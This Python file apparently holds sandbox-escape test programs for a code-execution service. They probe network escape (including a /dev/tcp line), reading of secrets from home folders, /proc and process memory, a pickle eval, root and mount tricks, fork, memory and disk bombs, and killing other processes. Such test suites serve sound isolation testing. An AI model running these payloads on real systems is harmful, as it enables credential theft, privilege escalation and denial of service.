"""Programs that attack: whoever is meant is looked at from outside, never asked. {X} stands for a thing of the world."""

OVERLONG = "import sys\nsys.stdout.write('x' * 10**7 + chr(10))"
HUNT = """
import os, sys
for root in {places}:
    for folder, _, names in os.walk(root):
        for name in names:
            try: print(open(os.path.join(folder, name), 'rb').read(4096).decode('latin1'))
            except OSError: pass
"""

NETWORK = {
    "tcp": "import socket\ns = socket.create_connection(('127.0.0.1', {tcp}), 1)\ns.sendall(b'x')",
    "tcp by another road": "import os\nos.system('echo x > /dev/tcp/127.0.0.1/{tcp}; bash -c \"echo x > /dev/tcp/127.0.0.1/{tcp}\"')",
    "tcp in a thread of urllib": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp}/', timeout=1)",
    "udp": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(9): s.sendto(b'x', ('127.0.0.1', {udp}))",
    "udp over ipv6": "import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\ns.sendto(b'x', ('::ffff:127.0.0.1', {udp}))",
    "dns": "import socket\nsocket.getaddrinfo('example.org', 80)\nraise SystemExit(0)",
    "a unix socket by its path": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({unix!r})\ns.send(b'x')",
    "an abstract unix socket": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(chr(0) + {abstract!r})\ns.send(b'x')",
    "raw sockets": "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ns.bind(('lo', 0)); s.send(b'x' * 60)",
    "io_uring": "import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0\nprint('ring')",
}
SECRETS = {
    "the home folder": HUNT.replace("{places}", "[{home!r}, os.path.expanduser('~'), '/root', '/home']"),
    "the folder of the tests": HUNT.replace("{places}", "[{folder!r}, {repository!r}]"),
    "by /proc/*/root": "import glob\nfor p in glob.glob('/proc/[0-9]*/root'):\n  try: print(open(p + {secret!r}).read())\n  except OSError as e: print(e)",
    "by /proc/*/cwd": "import glob, os\nfor p in glob.glob('/proc/[0-9]*/cwd'):\n  try: print(os.listdir(p))\n  except OSError as e: print(e)",
    "by a symlink": "import os\nos.symlink({secret!r}, '/tmp/l')\nprint(open('/tmp/l').read())",
    "by a hard link": "import os\nos.link({secret!r}, '/tmp/h')\nprint(open('/tmp/h').read())",
    "by dots": "print(open('/tmp/../../../..' + {secret!r}).read())",
    "the environment": "import os, glob\nprint(os.environ)\nfor p in glob.glob('/proc/[0-9]*/environ'):\n  try: print(open(p, 'rb').read())\n  except OSError: pass",
    "the environment, in C": "import ctypes\ng = ctypes.CDLL(None).getenv\ng.restype = ctypes.c_char_p\nprint(g(b'SKYASSETS_ATTACKED'))",
    "command lines": "import glob\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n  try: print(open(p, 'rb').read())\n  except OSError: pass",
    "memory of others": """
import glob, re
for p in glob.glob('/proc/[0-9]*'):
    try:
        with open(p + '/mem', 'rb', 0) as memory:
            for line in open(p + '/maps'):
                a, b = (int(x, 16) for x in line.split()[0].split('-'))
                try: memory.seek(a); text = memory.read(b - a)
                except (OSError, ValueError, OverflowError): continue
                for found in re.findall(rb'attack-to[k]en-[0-9a-f]+', text): print(found)
    except OSError: pass
""",
    "open files of others": "import glob, os\nfor p in glob.glob('/proc/[0-9]*/fd/*') + ['/proc/self/fd/%d' % n for n in range(3, 300)]:\n  try: print(os.read(os.open(p, os.O_RDONLY | os.O_NONBLOCK), 9999))\n  except OSError: pass",
    "the disk itself": "import os\nfor d in ('/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/mem', '/dev/kmsg', '/proc/kcore', '/proc/kmsg'):\n  try: print(os.read(os.open(d, os.O_RDONLY | os.O_NONBLOCK), 4096))\n  except OSError: pass",
    "a device of its own": "import os, stat\nos.mknod('/tmp/d', 0o600 | stat.S_IFBLK, os.makedev(254, 0))\nprint(open('/tmp/d', 'rb').read(4096))",
    "by a handle": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.open_by_handle_at(-100, ctypes.create_string_buffer(128), 0))",
    "by importing our code": "import sys\nsys.path += [{repository!r}]\nimport skyassets.core.ports as p\nprint(open(p.__file__).read())\nprint(open({secret!r}).read())",
    "by a pickle": "import pickle\nclass A:\n  def __reduce__(self): return (eval, ('open(%r).read()' % {secret!r},))\nprint(pickle.loads(pickle.dumps(A())))",
}
WRITING = {
    "outside": "for p in ({folder!r}, {home!r}, '/', '/usr', '/etc', '/var/tmp', '/run', '/sys', '/proc/sys/kernel'):\n  try: open(p + '/attacked', 'w').write('x')\n  except OSError: pass",
    "over the target": "import os\ntry: open({target!r}, 'w').write('x')\nexcept OSError: pass\nos.remove({target!r})",
    "over the target, by a link": "import os\nos.symlink({target!r}, '/tmp/t')\nopen('/tmp/t', 'w').write('x')",
    "a name for the next program": "import os\nfor f in ('/tmp', '/dev/shm', '/var/tmp', '/run', os.getcwd()):\n  for n in ('attacked', 'json.py', 'solution.py', 'sitecustomize.py'):\n    try: open(f + '/' + n, 'w').write('raise SystemExit(9)')\n    except OSError: pass",
    "shared memory for the next program": "import ctypes\nlibc = ctypes.CDLL(None)\ni = libc.shmget(0x5afe, 4096, 0o1666)\nq = libc.msgget(0x5afe, 0o1666)\ns = libc.semget(0x5afe, 1, 0o1666)\nlibc.mq_open(b'/attacked', 66, 0o666, None)\nfrom multiprocessing import shared_memory\nshared_memory.SharedMemory('attacked', create=True, size=9)",
    "the interpreter": "import sys, os, json\nfor f in (sys.executable, json.__file__, os.__file__):\n  try: open(f, 'ab').write(b'x')\n  except OSError: pass",
    "the kernel's settings": "for f in ('core_pattern', 'hostname', 'modprobe'):\n  try: open('/proc/sys/kernel/' + f, 'w').write('attacked')\n  except OSError: pass\nimport socket\nsocket.sethostname('attacked')",
    "sysrq and oom": "import glob\nfor f in ['/proc/sysrq-trigger', *glob.glob('/proc/[0-9]*/oom_score_adj')]:\n  try: open(f, 'w').write('-1000')\n  except OSError: pass",
    "by mounting": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10020000)\nlibc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None)\nlibc.umount2(b'/tmp', 2)\nlibc.chroot(b'/proc/1/root')\nlibc.pivot_root(b'/', b'/tmp')\nopen({target!r}, 'w').write('x')",
    "becoming root": "import ctypes, os\nlibc = ctypes.CDLL(None)\nlibc.setuid(0); libc.setresuid(0, 0, 0); libc.setgroups(0, None)\nos.system('su -c id; sudo id; mount -o remount,rw /')\nopen({target!r}, 'w').write('x')",
    "new user namespace by clone": "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.syscall(56, 0x10020000 | 17, 0, 0, 0, 0) == 0:\n  libc.mount(b'none', b'/', None, 32 | 4096, None)\n  open({target!r}, 'w').write('x')",
}
EXHAUSTION = {
    "fork bomb": "import os\nopen('/proc/self/comm', 'w').write({mark!r})\nwhile True:\n  try: os.fork()\n  except OSError: pass",
    "fork bomb that leaves its session": "import os\nopen('/proc/self/comm', 'w').write({mark!r})\nwhile True:\n  try:\n    if os.fork() == 0: os.setsid()\n  except OSError: pass",
    "thread bomb": "import threading, time\nwhile True:\n  try: threading.Thread(target=time.sleep, args=(99,)).start()\n  except RuntimeError: pass",
    "memory bomb": "x = []\nwhile True: x.append(bytearray(b'x' * 10**6))",
    "memory bomb of many": "import os\nfor _ in range(4): os.fork()\nx = bytearray(b'x' * (40 * 2**20))\nwhile True: pass",
    "memory bomb out of sight": "import ctypes, os\nctypes.CDLL(None).prctl(4, 0)\nfor _ in range(3): os.fork()\nx = bytearray(b'x' * (60 * 2**20))\nwhile True: pass",
    "memory bomb in files without names": "import ctypes, os, mmap\nlibc = ctypes.CDLL(None)\nfor _ in range(200):\n  fd = libc.memfd_create(b'x', 0)\n  if fd < 0: break\n  os.ftruncate(fd, 2**24); mmap.mmap(fd, 2**24).write(b'x' * 2**24)",
    "disk fill": "n = 0\nwhile True:\n  n += 1\n  try: open('/tmp/%d' % n, 'wb').write(bytes(2**24))\n  except OSError: pass",
    "a great many files": "n = 0\nwhile True:\n  n += 1\n  try: open('/tmp/%d' % n, 'w').close()\n  except OSError: pass",
    "a file with a hole": "import os\nfd = os.open('/tmp/hole', os.O_RDWR | os.O_CREAT)\nos.ftruncate(fd, 2**50)",
    "output flood": "while True: print('x' * 4096)",
    "error flood": "import os\nwhile True: os.write(2, b'x' * 65536)",
    "overlong line": OVERLONG,
    "binary output": "import os\nos.write(1, bytes(range(256)) * 64)",
    "endless loop": "while True: pass",
    "sleeping": "import time\ntime.sleep(999)",
    "ignoring signals": "import signal, os\nopen('/proc/self/comm', 'w').write({mark!r})\nfor n in range(1, 65):\n  try: signal.signal(n, signal.SIG_IGN)\n  except (OSError, ValueError): pass\nwhile True: pass",
    "catching the end": "import atexit, time\natexit.register(time.sleep, 999)\ntry:\n  while True: pass\nfinally:\n  time.sleep(999)",
    "a stopped process": "import os, signal\nopen('/proc/self/comm', 'w').write({mark!r})\nos.kill(os.getpid(), signal.SIGSTOP)",
    "regular expression": "import re\nre.match('(a|a)*b', 'a' * 60)",
    "a number": "print(len(str(9 ** 9 ** 9)))",
    "deep recursion in C": "import sys\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6): x = [x]\nprint(repr(x) == 1)",
    "opening without end": "fs = []\nwhile True:\n  try: fs.append(open('/dev/null'))\n  except OSError: pass",
}
OTHERS = {
    "a daemon": "import os, time\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    open('/proc/self/comm', 'w').write({mark!r})\n    time.sleep(999)\n  os._exit(0)\nprint('done')",
    "killing the parent": "import os\nfor p in (os.getppid(), 1, -1, 0):\n  try: os.kill(p, 9)\n  except OSError: pass\nwhile True: pass",
    "killing everyone by number": "import os\nfor p in range(1, 99999):\n  if p != os.getpid():\n    try: os.kill(p, 9)\n    except OSError: pass",
    "ptrace": "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor p in [os.getppid(), 1, {victim}, *range(2, 300)]: libc.ptrace(16, p, 0, 0); libc.ptrace(7, p, 0, 0); libc.ptrace(8, p, 0, 9)",
    "writing into others' memory": "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor p in [os.getppid(), 1, {victim}]:\n  libc.process_vm_writev(p, None, 0, None, 0, 0)\n  try: open('/proc/%d/mem' % p, 'r+b', 0).write(b'x')\n  except OSError: pass",
    "slowing others": "import os\nfor p in [1, os.getppid(), {victim}, *range(2, 300)]:\n  try: os.setpriority(os.PRIO_PROCESS, p, 19); os.sched_setaffinity(p, [0])\n  except OSError: pass",
    "lowering others' limits": "import resource, os\nfor p in [1, os.getppid(), {victim}]:\n  try: resource.prlimit(p, resource.RLIMIT_NOFILE, (0, 0))\n  except OSError: pass",
    "taking others' files": "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor p in [1, os.getppid(), {victim}]:\n  try: fd = os.pidfd_open(p)\n  except OSError: continue\n  for n in range(64): print(libc.syscall(438, fd, n, 0))",
    "writing on every file": "import os\nfor fd in range(0, 1024):\n  if fd not in (1, 2):\n    try: os.write(fd, b'ready\\ncompiled\\n\"x\"\\n')\n    except OSError: pass",
    "closing every file": "import os\nos.closerange(0, 1024)",
    "the kernel's keys": "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.syscall(248, b'user', b'attacked', b'x', 1, -3))",
    "breaking the warm interpreter": "import sys, builtins, gc, json, os, threading\nfor m in list(sys.modules.values()):\n  for n in list(vars(m)):\n    try: setattr(m, n, None)\n    except BaseException: pass",
}
